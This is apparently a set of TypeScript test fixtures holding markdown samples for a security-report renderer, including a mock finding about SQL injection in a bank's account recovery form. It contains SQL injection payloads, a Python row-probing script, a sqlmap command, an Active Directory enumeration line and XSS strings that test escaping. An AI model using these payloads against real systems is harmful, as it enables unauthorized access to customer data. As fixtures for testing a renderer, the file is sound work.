const ID = '0190b3c1-7c1e-7000-8000-0123456789ab';

export const FINDING = `The recovery form at \`/recover\` passes the customer number into a query without binding it. An attacker who is **not signed in** can read any row of the \`holders\` table.

## How it was found

1. Submit \`10442'--\` as customer number.
2. The reply changes from \`404\` to \`200\`.
3. Ordering by column 7 fails, by 6 does not, so the query returns six columns.

\`\`\`http
POST /recover HTTP/1.1
Host: online.aldervale.example
Content-Type: application/x-www-form-urlencoded

customerNo=10442'+UNION+SELECT+1,2,3--
\`\`\`

![Reply with another record](evidence:${ID})

Tested with two accounts the bank made for us.`;

export const EVERYTHING = `# First heading

A paragraph with **strong**, *emphasis*, ***both***, ~~struck~~, \`code\` and a [link](https://owasp.example/a). Bare addresses such as https://www.example.org/path?x=1 and security@stonemere.example are links too.

## Second heading

- One
- Two
  - Inside
    1. Deeper
    2. And again
- Three

  With a second paragraph.

### Third heading

- [x] Request captured
- [ ] Retested with a second account

> The reply names the column. That is enough to count them.
>
> > And a quote in it.

#### Fourth heading

| Parameter | Status | Requests |
| --- | :-: | --: |
| \`customerNo\` | Open | 1,204 |
| \`body.customer\` | Fixed | 36 |

---

\`\`\`python
import requests  # no session needed

def probe(number: int) -> bool:
    """True when the row exists."""
    reply = requests.post("https://online.aldervale.example/recover", data={"customerNo": f"{number}'--"})
    return reply.status_code == 200
\`\`\`

\`\`\`diff
- const rows = await db.query("SELECT * FROM holders WHERE no = " + no);
+ const rows = await db.query("SELECT * FROM holders WHERE no = $1", [no]);
\`\`\`

\`\`\`powershell
# Who may replicate the directory?
Get-ADUser -Filter * -Properties ServicePrincipalName | Where-Object { $_.Enabled -eq $true }
\`\`\`

\`\`\`json
{ "holder": "E. M", "rows": 6, "open": true, "next": null }
\`\`\`

\`\`\`sql
SELECT name, 42 FROM holders WHERE no = '10442' -- comment
\`\`\`

<script>alert(1)</script> stays text, and so does [this](javascript:alert(1)).

![Reply with another record](evidence:${ID})

![An image that was removed](evidence:0190b3c1-7c1e-7000-8000-000000000000)`;

export const LONG = `A token without a break: ${'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9'.repeat(6)} and an address https://online.aldervale.example/${'very/long/'.repeat(20)}end, and \`${'0x41'.repeat(60)}\`.

| ${Array.from({ length: 12 }, (_, column) => `Column ${column + 1}`).join(' | ')} |
|${' --- |'.repeat(12)}
| ${Array.from({ length: 12 }, () => '10.61.4.0/22').join(' | ')} |

${Array.from({ length: 9 }, (_, level) => `${'  '.repeat(level)}- Level ${level + 1}`).join('\n')}

\`\`\`bash
sqlmap -u "https://online.aldervale.example/recover" --data="customerNo=1" --level=5 --risk=3 --dbms=postgresql --batch --threads=4
\`\`\`
`;
